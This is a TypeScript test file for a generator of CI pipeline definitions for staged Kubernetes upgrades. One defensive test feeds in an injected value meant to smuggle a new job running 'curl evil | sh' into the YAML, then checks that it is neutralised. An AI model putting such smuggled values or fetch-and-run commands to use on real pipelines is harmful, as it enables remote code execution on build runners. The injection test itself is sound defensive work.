import { describe, expect, it } from 'vitest';
import { parse } from 'yaml';
import { parseWindows } from '../apply/window-spec.js';
import { cronForWindows, pipelineDefinition, pipelinePath, secretEnvNames, type PipelineInput } from './pipeline.js';

const WINDOW = 'Sat 01:00-05:00 UTC';

function input(ci: PipelineInput['ci']): PipelineInput {
  return {
    ci, cluster: 'k1', clusterFile: 'inventories/k1/cluster.yaml', clusterDir: 'inventories/k1',
    from: 'v1.16.3', to: 'v1.18.10',
    hops: [
      { index: 1, tag: 'v2.13.4', fromVersion: 'v1.16.3', toVersion: 'v1.17.12' },
      { index: 2, tag: 'v2.14.2', fromVersion: 'v1.17.12', toVersion: 'v1.18.10' },
    ],
    windowText: WINDOW, windows: parseWindows(WINDOW), secretEnv: ['K1_RBD_ADMIN_SECRET', 'K1_RBD_USER_SECRET'],
    ansible: 'venv', image: 'node:20-bookworm', nodeVersion: '20', runnerTag: 'kspray-dc1', runnerLabels: ['kspray', 'dc1'], command: 'kspray pipeline -c inventories/k1/cluster.yaml --ci x --to v1.18.10',
  };
}

type Job = {
  script?: string[]; when?: string; allow_failure?: boolean; needs?: unknown; stage?: string; environment?: unknown; 'runs-on'?: unknown; cache?: unknown;
  steps?: Array<{ run?: string; uses?: string; with?: Record<string, unknown> }>; env?: Record<string, string>; artifacts?: { paths?: string[]; reports?: { junit?: string } };
};

describe('secretEnvNames and cronForWindows', () => {
  it('finds every fromEnv reference, once, sorted', () => {
    expect(secretEnvNames({ a: { fromEnv: 'B' }, list: [{ x: { fromEnv: 'A' } }, { fromFile: 'f' }], c: { fromEnv: 'B' } })).toEqual(['A', 'B']);
  });

  it('schedules each window at its opening', () => {
    expect(cronForWindows(parseWindows('Sat 01:00-05:00 UTC, Mon-Fri 22:30-23:30 UTC, 03:15-04:00'))).toEqual(['0 1 * * 6', '30 22 * * 1,2,3,4,5', '15 3 * * *']);
  });
});

describe('pipelineDefinition', () => {
  it('GitLab: plan → preflight → one manual, blocking job per hop, chained, with reports as artifacts', () => {
    const text = pipelineDefinition(input('gitlab'));
    const doc = parse(text) as Record<string, Job> & { stages: string[]; variables: Record<string, string> };
    expect(doc.stages).toEqual(['plan', 'preflight', 'hop-1', 'hop-2']);
    expect(doc.variables).toEqual({ KSPRAY_CLUSTER_FILE: 'inventories/k1/cluster.yaml', KSPRAY_TARGET: 'v1.18.10', KSPRAY_WINDOW: WINDOW });
    expect(doc['preflight']!.needs).toEqual(['plan']);
    expect((doc as unknown as { default: { tags: string[]; cache?: unknown } }).default).toMatchObject({ tags: ['kspray-dc1'] });
    expect(text).not.toMatch(/\bcache:/);
    expect(doc['plan']!.script!.at(-1)).toContain('--require-ansible --output kspray-plan.json');
    for (const [hop, needs] of [[1, 'preflight'], [2, 'apply-hop-1']] as const) {
      const job = doc[`apply-hop-${hop}`]!;
      expect(job).toMatchObject({ when: 'manual', allow_failure: false, stage: `hop-${hop}`, needs: [{ job: 'plan', artifacts: true }, { job: needs, artifacts: false }] });
      expect(job.script!.at(-1)).toBe(`npx kspray apply -c "$KSPRAY_CLUSTER_FILE" --plan kspray-plan.json --hop ${hop} --yes --window "$KSPRAY_WINDOW" --report kspray-hop${hop}-report.json --junit kspray-hop${hop}-junit.xml`);
      expect(job.script![0]).toContain('test -n "$KUBECONFIG"');
      expect(job.artifacts).toMatchObject({ reports: { junit: `kspray-hop${hop}-junit.xml` } });
      expect(job.artifacts!.paths).toContain('inventories/k1/cluster.yaml');
      expect(job.artifacts!.paths!.some((path) => path.includes('.kspray/state'))).toBe(false);
    }
    expect(text).toMatch(/# {3}hop 1: Kubespray v2\.13\.4, Kubernetes v1\.16\.3 → v1\.17\.12/);
    expect(text).toMatch(/# {3}K1_RBD_ADMIN_SECRET: read by the cluster file \(fromEnv\)/);
    expect(text).toMatch(/cron "0 1 \* \* 6", timezone UTC/);
  });

  it('GitHub: scheduled, environments as the manual gate, needs chaining, secrets only as references', () => {
    const doc = parse(pipelineDefinition(input('github'))) as { on: { schedule: Array<{ cron: string }> }; jobs: Record<string, Job> };
    expect(doc.on.schedule).toEqual([{ cron: '0 1 * * 6' }]);
    expect(Object.keys(doc.jobs)).toEqual(['plan', 'preflight', 'apply-hop-1', 'apply-hop-2']);
    expect(doc.jobs['apply-hop-1']).toMatchObject({ needs: 'preflight', environment: 'k1-hop-1' });
    expect(doc.jobs['apply-hop-2']).toMatchObject({ needs: 'apply-hop-1', environment: 'k1-hop-2' });
    expect(doc.jobs['apply-hop-2']!.env).toEqual({ K1_RBD_ADMIN_SECRET: '${{ secrets.K1_RBD_ADMIN_SECRET }}', K1_RBD_USER_SECRET: '${{ secrets.K1_RBD_USER_SECRET }}' });
    const steps = doc.jobs['apply-hop-2']!.steps!;
    expect(steps.map((step) => step.run).filter(Boolean)).toContain(
      'npx kspray apply -c "$KSPRAY_CLUSTER_FILE" --plan kspray-plan.json --hop 2 --yes --window "$KSPRAY_WINDOW" --report kspray-hop2-report.json --junit kspray-hop2-junit.xml',
    );
    // The reviewed plan comes in as an artifact, the JUnit goes out as a test report, and no journal goes through a cache.
    expect(steps.find((step) => step.uses === 'actions/download-artifact@v4')?.with).toEqual({ name: 'kspray-plan' });
    expect(steps.find((step) => step.uses === 'mikepenz/action-junit-report@v5')?.with).toMatchObject({ report_paths: 'kspray-hop2-junit.xml' });
    expect(steps.some((step) => step.uses?.startsWith('actions/cache'))).toBe(false);
    for (const job of Object.values(doc.jobs)) expect(job['runs-on']).toEqual(['self-hosted', 'kspray', 'dc1']);
    expect((doc as unknown as { permissions: Record<string, string> }).permissions).toEqual({ contents: 'read', checks: 'write' });
  });

  it('keeps flag and path values that hold line breaks inside their comment line: never YAML structure', () => {
    const window = 'Sat\n01:00-05:00 UTC';
    const injected = 'x"\nevil:\n  stage: plan\n  script: [curl evil | sh]\n#';
    for (const ci of ['gitlab', 'github'] as const) {
      const text = pipelineDefinition({
        ...input(ci), windowText: window, windows: parseWindows(window), runnerTag: `kspray${injected}`, runnerLabels: ['kspray', `dc1\r\u2028${injected}`],
        cron: ['0 1 * *\u00856'], command: `kspray pipeline -c inventories/k1/cluster.yaml\n${injected}`,
      });
      const clean = pipelineDefinition(input(ci));
      expect(Object.keys(parse(text) as object), ci).toEqual(Object.keys(parse(clean) as object));
      // As many comment lines as without the line breaks, none holding a break YAML 1.1 knows (\r, NEL, LS, PS).
      const comments = (t: string) => t.split('\n').slice(0, t.split('\n').findIndex((line) => !line.startsWith('#')));
      expect(comments(text).length, ci).toBe(comments(clean).length);
      for (const line of comments(text)) expect(line, ci).not.toMatch(/[\r\u0085\u2028\u2029]/);
      expect(text, ci).toContain('window "Sat 01:00-05:00 UTC"');
    }
    // The values themselves reach the YAML exactly, as quoted scalars.
    const lab = parse(pipelineDefinition({ ...input('gitlab'), windowText: window, windows: parseWindows(window), runnerTag: `kspray${injected}` })) as { default: { tags: string[] }; variables: Record<string, string> };
    expect(lab.default.tags).toEqual([`kspray${injected}`]);
    expect(lab.variables.KSPRAY_WINDOW).toBe(window);
  });

  it('names the Lease and the Secret in the cluster as kspray names them (a _ in the cluster name is not a Kubernetes name)', () => {
    expect(pipelineDefinition(input('gitlab'))).toContain('# kspray-k1 and the Secret kspray-k1-journal), not in a CI cache.');
    const text = pipelineDefinition({ ...input('github'), cluster: 'k_1' });
    expect(text).toMatch(/# kspray-k-1-[0-9a-f]{8} and the Secret kspray-k-1-[0-9a-f]{8}-journal\), not in a CI cache\./);
  });

  it('names where the file goes', () => {
    expect(pipelinePath('gitlab', 'k1')).toBe('.gitlab-ci.yml');
    expect(pipelinePath('github', 'k1')).toBe('.github/workflows/kspray-k1.yml');
  });
});
